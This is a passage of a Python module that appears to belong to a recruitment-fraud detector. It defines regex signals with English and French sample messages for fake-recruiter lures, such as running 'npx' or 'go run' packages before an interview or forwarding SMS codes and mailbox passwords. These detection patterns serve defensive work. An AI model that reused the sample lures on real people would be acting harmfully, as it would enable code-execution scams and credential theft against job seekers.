    r"|votre) ?(?:projet|environnement|application|depot|code)\b"
    r"|\b(?:l'|les |le |la )(?:installer|executer|lancer|demarrer)\b"
    r"|\b(?:npm|yarn) (?:install|i|start|run)\b|\bgit clone\b|" + d.PACKAGE_RUNNER
)
#: "There's nothing to install before the call", "we will never ask you to run or install code",
#: « pas besoin d'installer quoi que ce soit »: no run request (with NEGATED_ACTION, scope
#: "near": right before the verb).
_NO_RUN_REQUEST = (
    r"\b(?:nothing|no need|no requirement|not necessary|unnecessary) (?:for you )?to"
    r"(?: \w+ (?:or|and))? |\bwithout (?:having to )?"
    r"|\b(?:never|not|n't|won't|will not|don't|do not) (?:ask|require|expect|need)(?:s|ed)?"
    r" (?:you |candidates |anyone |applicants )?to(?: \w+ (?:or|and))? "
    r"|\b(?:rien a|pas besoin d'|pas besoin de |sans rien |sans |aucun besoin d'|aucun besoin de )"
)
_CALL_TIME_FR = (
    r"\b(?:avant|pendant|durant|lors de|lors d') ?(?:l'|le |la |notre |votre |ton |ta |cet |cette"
    r" |ce )?(?:premier |prochain |prochaine )?(?:entretien|appel|reunion|rendez-vous|rdv|call"
    r"|echange|visio|visioconference|session)\b|\bavant (?:qu'on|que nous) (?:se parle|nous"
    r" parlions|echangions|nous voyions)\b"
)

RUN_BEFORE_CALL = PatternSignal(
    name="run_before_call",
    description="Asks the candidate to install, run or set up code before or during the call or "
    "interview: the stage at which fake-recruiter lures run their code.",
    category="lure",
    polarity="risk",
    source="L1 (stage): RED-FLAGS 1e ('Run our code' before or as the interview; run / install "
    "/ set up near 'before our call' or 'interview'), 1f (stronger 'before our call'); FBI IC3 "
    "PSA Sept 2024; dev-trap-dossiers; alien45",
    # a negated or unrequested action is no request (rule R17-J of the notes)
    unless=NEGATED_ACTION + "|" + _NO_RUN_REQUEST,
    unless_scope="near",
    # (in either order, within one sentence: near's gap)
    patterns={
        "message": (
            near(_RUN_VERB, _CALL_TIME),
            near(_CALL_TIME, _RUN_VERB),
            # French
            near(_RUN_VERB_FR, _CALL_TIME_FR),
            near(_CALL_TIME_FR, _RUN_VERB_FR),
        ),
        # in the sender's headline or company (rule R26-C): the same request, inside one of
        # the headline's statements
        **dict.fromkeys(PROFILE_TEXT, (
            near(_RUN_VERB, _CALL_TIME, PROFILE_GAP),
            near(_CALL_TIME, _RUN_VERB, PROFILE_GAP),
            near(_RUN_VERB_FR, _CALL_TIME_FR, PROFILE_GAP),
            near(_CALL_TIME_FR, _RUN_VERB_FR, PROFILE_GAP),
        )),
    },
    examples=(
        E("Please clone our repo and run it before our call.",
          spans=("clone our repo and run it before our call",)),
        E("Before our interview, please set up our project locally.",
          spans=("Before our interview, please set up our project",)),
        E("Run npm install and npm start ahead of the technical call.",
          spans=("Run npm install and npm start ahead of the technical call",)),
        E("During the interview you'll clone the repo and run it while sharing your screen.",
          spans=("During the interview you'll clone",)),
        E("Get it running before we talk tomorrow.", spans=("Get it running before we talk",)),
        E("Clonez le dépôt et installez les dépendances avant l'entretien.", lang="fr",
          spans=("Clonez le dépôt et installez les dépendances avant l'entretien",)),
        E("Avant notre appel, merci de lancer le projet en local.", lang="fr",
          spans=("Avant notre appel, merci de lancer",)),
        E("Pendant la visio, vous ferez tourner notre application.", lang="fr",
          spans=("Pendant la visio, vous ferez tourner",)),
        E("Hi", fields={"sender_headline": "CTO | Clone our repo and run it before our call"},
          spans=("Clone our repo and run it before our call",),
          note="in the sender's headline (R26-C)"),
        E("Bonjour", lang="fr", fields={"sender_company": "DexLabs | Lancez le projet avant "
                                                          "l'entretien"},
          spans=("Lancez le projet avant l'entretien",), note="R26-C"),
        # package runners (rule R28-F, red-team round 10 F9)
        E("Hi! Before the interview, please run npx create-interview-app@latest so we can "
          "review it on the call.",
          spans=("Before the interview, please run npx create-interview-app@latest",)),
        E("Run uvx acme-assess before our call.", spans=("uvx acme-assess before our call",)),
        E("Just go run github.com/acme-hr/assess@latest before we talk.",
          spans=("go run github.com/acme-hr/assess@latest before we talk",)),
        E("Avant l'entretien, lancez bunx acme-assess s'il vous plaît.", lang="fr",
          spans=("Avant l'entretien, lancez bunx acme-assess",)),
        E("Exécutez pipx run acme-assess avant notre appel.", lang="fr",
          spans=("pipx run acme-assess avant notre appel",)),
    ),
    counterexamples=(
        E("Please complete the exercise before the interview."),
        E("Send us your solution before the interview."),
        E("We'll run through your CV during the call."),
        E("Can we set up a call before the interview?"),
        E("Make sure Node is installed before the interview."),
        E("After our call you'll get a 2-hour HackerRank exercise."),
        E("Merci d'envoyer votre solution avant l'entretien.", lang="fr"),
        E("Nous ferons le point pendant l'entretien.", lang="fr"),
        # a negation, a browser or a meeting app (R17-J; the fifth review's cases)
        E("The next step is a live coding interview on CoderPad. There's nothing to install "
          "before the call."),
        E("Please make sure to install Chrome before the call."),
        E("Please install Microsoft Teams before the interview."),
        E("We will never ask you to run or install code before the interview."),
        E("During the interview we'll discuss how you would deploy the app."),
        E("Pas besoin d'installer quoi que ce soit avant l'entretien.", lang="fr"),
        E("Avant l'entretien, pourriez-vous installer Teams ?", lang="fr"),
        E("Ne lancez pas le projet avant l'entretien.", lang="fr"),
        E("Hi", fields={"sender_headline": "CTO at Acme | git clone enthusiast | before the "
                                           "interview, relax"},
          note="a developer's headline; no request across its statements (R26-C)"),
        E("Bonjour", lang="fr", fields={"sender_headline": "Coach | préparez-vous avant "
                                                           "l'entretien"}),
        E("We'll go run a quick sync before the interview.", note="'go run' as words (R28-F)"),
        E("Deno will join us before the interview.", note="'Deno' as a name (R28-F)"),
        E("Nous irons courir avant l'entretien ; Deno sera là.", lang="fr"),
    ),
)

# -- credential_request (rules R22-D, R22-H) ----------------------------------------------------
# Only a secret asked FOR THE SENDER: a code to pass on to "me / us", the mailbox's own password
# of a consumer mail service, a password sent to "us". A platform that sends the code, a page
# to type it in, a work account's single sign-on (Outlook, Office 365), "re-enter your
# password", a password policy and "verify your credentials" (diplomas) are what genuine
# sign-up, two-factor and onboarding mail says (review20: 37 of 58 such messages fired before).
_CODE_WORDS = (r"(?:(?:[0-9]|four|six|eight)[- ]digit |one[- ]time |verification |confirmation "
               r"|security |sms |text |login |authentication |2fa |otp )")
_TO_US = r"(?:me|us|our (?:team|recruiter|hr)|it (?:back )?to (?:me|us)|(?:it|them) back)"
_MAILBOX = (r"(?:personal )?(?:e-?mail|email|webmail|mailbox|gmail|yahoo|hotmail|icloud"
            r"|aol|proton(?:mail)?)")
_TO_US_FR = r"-(?:moi|nous)"
_SEND_FR = (r"\b(?:envoie|envoyez|renvoie|renvoyez|transmets|transmettez|communique|communiquez"
            r"|donne|donnez|partage|partagez|dicte|dictez|lis|lisez|transfere|transferez|indique"
            r"|indiquez)")
_CODE_FR = (r"(?:a [0-9] chiffres|de (?:verification|confirmation|securite|validation|connexion)"
            r"|(?:que vous avez |que tu as |qui vous a ete |qui t'a ete )?(?:recu|envoye)s?"
            r"(?: (?:par|en) (?:sms|texto|message|e-?mail|mail))?|sms|otp|unique|temporaire)")
# (sharing negations only: "Don't use the website, send me the code" is still a request)
_NO_SHARING = (
    r"\b(?:never|don't|do not|dont|must not|should not|shouldn't|not to)(?: ever)?"
    r" (?:send|forward|give|tell|read|disclose|reveal|communicate|share)\b"
    r"|\b(?:never|not|n't|won't|will not|will never|would never|don't|do not)"
    r" (?:ask|asks|asked|request|require|expect)(?: you| candidates| anyone| applicants)?"
    r" to\b"
    r"|\bn(?:e |')(?:(?:le|la|les|l')\s?)?(?:envoy|transm|communiqu|donn|divulgu|partag|dict"
    r"|indiqu)\w{0,6}(?:-(?:le|la|les))? (?:jamais|pas|surtout pas|a personne)\b"
    r"|\bn(?:e |')(?:vous |te )?(?:demand|exig|sollicit)\w{0,8} (?:jamais|pas) (?:de|d')"
)
CREDENTIAL_REQUEST = PatternSignal(
    name="credential_request",
    description="Asks for log-in secrets for the sender: a one-time or verification code to "
    "pass on, the password of the candidate's own mailbox, a password sent to 'us': the page "
    "or chat behind a fake job board, ATS or employer notice.",
    category="fraud",
    polarity="risk",
    source="F10/M13 (the credential page behind an impersonated employer, job board or ATS): "
    "France Travail 'Vigilance' page (identifiers and passwords are never asked); jobing.com "
    "('legitimate businesses will not ask you to reveal login ... via email/text'); Binghamton "
    "ITS (login information); uaejobseekers (one-time verification codes); mysaferesume "
    "(passwords)",
    unless=_NO_SHARING,
    unless_scope="near",
    patterns={
        "message": (
            # a code to pass on to the sender
            # (a code word or OTP / PIN: "send me the code by Friday" is a take-home's)
            r"\b(?:send|forward|share|give|text|tell|read(?: out)?)(?: (?:it|them))? " + _TO_US
            + r" (?:the |this |that |your |a |my )?(?:" + _CODE_WORDS + r"+(?:code|pin|passcode)"
            r"|otp|pin|passcode)s?\b",
            # (to the sender: "share the code you've got so far" is a take-home's; R22-J)
            r"\b(?:send|forward|share|give|text|tell|read(?: out)?) " + _TO_US + r" (?:the|this"
            r"|that) (?:code|pin|passcode|otp) (?:you(?:'ve| have)? (?:just )?(?:received|got|get)"
            r"|you (?:were|have been|will be) sent|you(?:'ll| will) (?:receive|get)|we (?:just )?"
            r"sent|that (?:was|is|we) sent)\b",
            r"\breply (?:here |back )?with (?:the |this |your )?" + _CODE_WORDS
            + r"+(?:code|pin|passcode)\b",
            r"\b(?:receive|get) an? " + _CODE_WORDS + r"*(?:code|pin|passcode)\b[^.!?]{0,80}?"
            r"\b(?:send|forward|share|give|text|read) (?:it|the code|this code) (?:back )?to"
            r" (?:me|us)\b",
            # the candidate's own mailbox's password
            r"\b(?:with|using|enter|type|confirm|provide|send|share|give) (?:us |me )?(?:your"
            r" |the )?(?:e-?mail address and (?:your |the )?)?" + _MAILBOX + r" (?:account )?"
            r"(?:password|credentials|login details)\b",
            # a password sent to "us"
            r"\b(?:send|share|give|tell|e-?mail|text|forward) (?:us|me) (?:your |the )?(?:account"
            r" )?(?:password|login credentials|login details|username and password)\b",
            # French
            _SEND_FR + _TO_US_FR + r"(?: [a-z]+ment)? (?:le|ce|votre|ton|du) code " + _CODE_FR
            + r"\b",
            # « transmettez le code reçu par SMS à votre recruteuse »
            _SEND_FR + r" (?:le|ce|votre|ton) code " + _CODE_FR + r"[^.!?]{0,40}? (?:a (?:votre"
            r"|ton|notre|mon|ma|la|le) |au |aux )(?:recrut\w*|charge\w* de recrutement)",
            r"\b(?:recevoir|recevrez|recevez|recois|recu) (?:un|le|votre|ton) code\b[^.!?]{0,80}?"
            r"\b(?:envoie|envoyez|renvoie|renvoyez|transmets|transmettez|communique|communiquez"
            r"|donne|donnez|transferez)-(?:le|la)\b",
            r"\b(?:authentifiez|identifiez|connectez|authentifie|identifie|connecte)-(?:vous|toi)"
            r" (?:avec|a l'aide de|grace a) (?:le |votre |ton |vos |tes |l')?(?:mot de passe"
            r"|identifiants?) de (?:votre |ta )?(?:messagerie|boite (?:mail|e-mail|aux lettres)"
            r"|adresse (?:e-?mail|mail))\b",
            r"\b(?:saisissez|saisis|entrez|entre|renseignez|renseigne|communiquez|envoyez"
            r"|transmettez|donnez|indiquez)(?:-(?:nous|moi))? (?:votre|ton|vos|tes|le|les)"
            r" (?:mot de passe|identifiants?) (?:de (?:votre |ta )?(?:messagerie|boite (?:mail"
            r"|e-mail|aux lettres)|adresse (?:e-?mail|mail))|gmail|yahoo|hotmail)\b",
            r"\b(?:communiquez|communique|envoyez|envoie|transmettez|transmets|donnez|donne"
            r"|indiquez|indique)" + _TO_US_FR + r" (?:votre|ton|vos|tes) (?:mot de passe"
            r"|identifiants?(?: et (?:votre |ton )?mot de passe)?)\b",
            # « merci de nous communiquer votre mot de passe », « pouvez-vous m'envoyer le code »
            r"\b(?:me|nous|m') ?(?:communiquer|envoyer|transmettre|donner|indiquer|renvoyer"
            r"|transferer|dicter) (?:votre|ton|vos|tes) (?:mot de passe|identifiants?)\b",
            r"\b(?:me|nous|m') ?(?:communiquer|envoyer|transmettre|donner|indiquer|renvoyer"
            r"|transferer|dicter|lire) (?:le|ce|votre|ton) code " + _CODE_FR + r"\b",
        )
    },
    examples=(
        E("You will get a 6-digit code by SMS, please send it to me to finish the pre-screen.",
          spans=("get a 6-digit code by SMS, please send it to me",)),
        E("Pouvez-vous m'envoyer le code reçu par SMS ?", lang="fr",
          spans=("m'envoyer le code reçu par SMS",), note="(R22-H)"),
        E("Please forward us the verification code we just sent you.",
          spans=("forward us the verification code",)),
        E("Reply with the one-time code to confirm your interview slot.",
          spans=("Reply with the one-time code",)),
        E("To view the offer letter, sign in with your Gmail password.",
          spans=("with your Gmail password",)),
        E("Please confirm your email password so HR can share the contract.",
          spans=("confirm your email password",)),
        E("Send us your password and username so we can set up your profile.",
          spans=("Send us your password",)),
        E("Send me the OTP you received.", spans=("Send me the OTP",)),
        E("Send me the code you have received.", spans=("Send me the code you have received",),
          note="(R22-J)"),
        E("Don't use the website, send me the verification code here.",
          spans=("send me the verification code",), note="(R22-J)"),
        E("Transmettez le code reçu par SMS à votre recruteuse.", lang="fr",
          spans=("Transmettez le code reçu par SMS à votre recruteuse",), note="(R22-I)"),
        E("Envoyez-moi le code reçu par SMS pour valider votre candidature.", lang="fr",
          spans=("Envoyez-moi le code reçu par SMS",)),
        E("Vous allez recevoir un code à 6 chiffres, transmettez-le à votre recruteuse.",
          lang="fr", spans=("recevoir un code à 6 chiffres, transmettez-le",)),
        E("Authentifiez-vous avec le mot de passe de votre messagerie pour lire la convocation.",
          lang="fr", spans=("Authentifiez-vous avec le mot de passe de votre messagerie",)),
        E("Merci de nous communiquer votre mot de passe.", lang="fr",
          spans=("nous communiquer votre mot de passe",), note="(R22-H)"),
    ),
    counterexamples=(
        E("Log in to your candidate portal to check the status of your application."),
        E("Please verify your email address by clicking the link below."),
        E("Your account has been created. Your temporary password is below; please change it "
          "at first login."),
        E("Never share this code with anyone, including our recruiters."),
        E("You can sign in with Google or with your email address and password."),
        E("Use the code ENG-2291 when you apply."),
        E("IT will send your work email login and a temporary password on day one."),
        E("On day one, sign in to Workday using your work email credentials."),
        E("Please enter the verification code we sent to your email."),
        # review20 (R22-H): warnings, two-factor mail, a work account, policies, diplomas
        E("We will never ask you to send us your password or a verification code."),
        E("We'll send a verification code to your phone number to confirm it's you."),
        E("Sign in with your password and the 6-digit code from your authenticator app."),
        E("Confirm password: please re-type your password."),
        E("Sign in to the VPN with your Office 365 password and approve the MFA prompt."),
        E("Per IT policy, your password will expire every 90 days."),
        E("As part of the background check, we will verify your credentials with the "
          "issuing universities."),
        E("Please share your confirmation number with the recruiter when you call."),
        E("Connectez-vous à votre espace candidat avec vos identifiants.", lang="fr"),
        E("Ne communiquez jamais votre mot de passe, même à nos équipes.", lang="fr"),
        E("Ne communiquez votre mot de passe à personne, pas même à nos équipes.", lang="fr"),
        E("Indiquez le code de l'offre (REF-1203) dans votre candidature.", lang="fr"),
        E("Vous recevrez un code par SMS pour activer votre compte.", lang="fr"),
        E("You'll get a 6-digit code by text; do not share it with anyone, including our "
          "recruiters."),
        E("Nous ne vous demanderons jamais de nous communiquer votre mot de passe.", lang="fr"),
        E("Please send me the code by Friday so the team can review it.",
          note="a take-home's code (R22-I)"),
        E("Please share the code you've got so far, even if it is unfinished.",
          note="a take-home's code (R22-J)"),
        E("For MFA setup you will need your email password and your phone.",
          note="IT onboarding (R22-J)"),
        E("Transmettez le code reçu par courrier à votre conseiller France Travail.", lang="fr",
          note="a job-centre adviser (R22-J)"),
        E("Notre plateforme envoie le code de validation par SMS ; saisissez-le sur la page.",
          lang="fr"),
        E("Saisissez vos identifiants Office 365 pour ouvrir votre espace salarié.", lang="fr"),
    ),
)


#: Signals added after :data:`~recruitscore.signals.catalog.PADDED_TEXT` (registry order is
#: the feature order of model files: append only).
ADDED_SIGNALS = (
    INTL_ORG_RECRUITMENT,
    UNKNOWN_MEETING_LINK,
    POST_OFFER_ONBOARDING,
    RUN_BEFORE_CALL,
    CREDENTIAL_REQUEST,
)

#: The signals of this module, in the order they are appended to the registry.
FRAUD_AND_LURE_SIGNALS = (
    OFFER_WITHOUT_INTERVIEW,
    LOW_SKILL_REMOTE_ROLE,
    EASY_MONEY,
    PAY_TO_WORK,
    CHEQUE_FORWARDING,
    MONEY_MULE,
    EARLY_IDENTITY_REQUEST,
    CHAT_ONLY_INTERVIEW,
    FREEMAIL_COMPANY_CONTACT,
    TASK_SCAM,
    ACCOUNT_RENTAL,
    PREMIUM_RATE_NUMBER,
    RUN_OUR_CODE,
    ADHOC_CODE_HOSTING,
    INTERVIEW_SOFTWARE_DOWNLOAD,
    PASTE_COMMAND,
    WEB3_PITCH,
    ASSESSMENT_PORTAL,
    SECRETS_ON_DEVICE,
    COMPANY_PAYS_COSTS,
    STANDARD_ASSESSMENT_PLATFORM,
    VIDEO_INTERVIEW_OFFERED,
)

#: Message-only pattern signals that the column path runs in groups: one RE2 pass with the union
#: of a group's patterns, then each signal on the few rows that pass. Groups of three (two to
#: four, by the size of their patterns) keep RE2's automaton small: once a union outgrows RE2's
#: memory budget for its automaton it runs several times slower than its parts (after the
#: December 2026 pattern round, the groups of six then in use made signal extraction ten times
#: slower). A test bounds the size of each union (see
#: :data:`GATE_UNION_MAX`), and the tests check that the column path equals the span path.
GATE_GROUPS: tuple[tuple[str, ...], ...] = (
    ("offer_without_interview", "low_skill_remote_role", "easy_money"),
    # (paste_command moved to the last group, of short benign patterns, when the abbreviation
    # a gap may hold made this union outgrow the bound; together with pay_to_work it was the
    # slowest union, 0.39 s per 20,000 real messages against 0.05 s without it; R26-B)
    ("pay_to_work", "cheque_forwarding"),
    ("early_identity_request", "chat_only_interview", "task_scam"),
    ("account_rental", "premium_rate_number", "run_our_code"),
    # (money_mule moved here from the second group, whose union outgrew the bound; R21-F)
    ("interview_software_download", "money_mule", "secrets_on_device"),
    ("company_pays_costs", "standard_assessment_platform", "video_interview_offered",
     "paste_command"),
)
#: The most characters a group's union of gate patterns may have (checked by a test).
GATE_UNION_MAX = 20_000
